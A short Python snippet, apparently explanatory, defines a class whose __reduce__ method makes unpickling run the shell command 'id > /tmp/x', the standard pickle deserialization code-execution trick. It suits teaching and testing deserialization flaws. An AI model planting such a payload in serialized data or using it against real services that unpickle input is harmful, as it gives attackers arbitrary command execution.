# why: an object that runs a command when it is unpickled
import os
class Payload:
    def __reduce__(self):
        return os.system, ("id > /tmp/x",)
